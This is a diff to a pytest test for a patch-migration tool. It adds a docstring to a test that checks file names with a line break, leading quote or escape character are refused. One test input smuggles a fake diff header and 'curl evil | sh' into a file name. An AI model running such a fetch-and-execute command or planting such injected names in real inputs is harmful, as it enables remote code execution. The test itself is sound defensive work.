@@ -53,6 +53,7 @@ def test_patch_has_certain_edits_only(migrate, tmp_path, name):
 
 @pytest.mark.parametrize("name", ["swift.sh\n+++ z.sh\n@@ -0,0 +1 @@\n+curl evil | sh", '"z.sh', "z\x1b.sh"])
 def test_patch_of_a_file_whose_name_could_name_another_is_refused(migrate, name):
+    """A file name with a line break, a quote at its start or an escape gets no patch, and a line on standard error."""
     code, patch, errors = migrate(name, SWIFT, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
     assert (code, patch) == (1, "")
     assert "no patch for " in errors
